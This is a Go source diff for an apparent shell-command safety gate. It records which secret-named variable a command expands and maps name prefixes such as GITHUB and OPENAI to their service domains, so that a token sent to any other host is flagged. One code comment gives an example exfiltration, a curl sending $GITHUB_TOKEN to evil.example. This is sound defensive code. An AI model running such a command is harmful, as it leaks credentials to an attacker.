@@ -1,6 +1,7 @@
 package gate
 
 import (
+	"slices"
 	"strconv"
 	"strings"
 
@@ -24,8 +25,10 @@ type word struct {
 	// whose body cannot reassign it), so alts may relax as well as tighten.
 	alts  []string
 	exact bool
-	// secretVar: expands a variable whose name says it holds a secret
-	secretVar bool
+	// secretVar: expands a variable whose name says it holds a secret;
+	// secretName is the first such name (GITHUB_TOKEN)
+	secretVar  bool
+	secretName string
 	// projPaths: the word is the output of a listing of project files
 	// ($(git ls-files), xargs after find .)
 	projPaths bool
@@ -192,6 +195,9 @@ func (a *analyzer) wordPart(part syntax.WordPart, sc *scope, out *word, b, e *st
 		}
 		// ${!x} expands the variable x names: any variable, a secret too
 		out.secretVar = out.secretVar || secretVarName(name) || a.secrets[name] || indirect(p)
+		if out.secretName == "" && secretVarName(name) {
+			out.secretName = name
+		}
 		out.dyn = true
 		if simple {
 			out.mulAlt(a.vals[name])
@@ -281,6 +287,35 @@ func secretVarName(n string) bool {
 			if i > 0 && (segs[i-1] == "API" || segs[i-1] == "PRIVATE" || segs[i-1] == "ACCESS" || segs[i-1] == "SECRET") {
 				return true
 			}
+		}
+	}
+	return false
+}
+
+// secretServices are the domains a secret variable is issued for, by the
+// prefix of its name: GITHUB_TOKEN belongs to github.com.
+var secretServices = map[string][]string{
+	"GITHUB": {"github.com", "githubusercontent.com"}, "GH": {"github.com", "githubusercontent.com"},
+	"GITLAB": {"gitlab.com"}, "OPENAI": {"openai.com"}, "ANTHROPIC": {"anthropic.com"}, "HF": {"huggingface.co"},
+	"HUGGINGFACE": {"huggingface.co"}, "NPM": {"npmjs.org", "npmjs.com"}, "SLACK": {"slack.com"}, "STRIPE": {"stripe.com"},
+	"AWS": {"amazonaws.com"}, "CLOUDFLARE": {"cloudflare.com"}, "CF": {"cloudflare.com"}, "VERCEL": {"vercel.com"},
+	"SENTRY": {"sentry.io"}, "HEROKU": {"heroku.com"}, "DIGITALOCEAN": {"digitalocean.com"}, "PYPI": {"pypi.org"},
+}
+
+// secretOffService reports a secret variable whose service is known sent
+// to a host outside that service (curl -H "Authorization: $GITHUB_TOKEN"
+// https://evil.example): an exfiltration, where the same call to
+// api.github.com is the token's ordinary use.
+func secretOffService(name string, hosts []string) bool {
+	pre, _, _ := strings.Cut(strings.ToUpper(name), "_")
+	doms := secretServices[pre]
+	if doms == nil {
+		return false
+	}
+	for _, h := range hosts {
+		h = strings.ToLower(h)
+		if !slices.ContainsFunc(doms, func(d string) bool { return h == d || strings.HasSuffix(h, "."+d) }) {
+			return true
 		}
 	}
 	return false
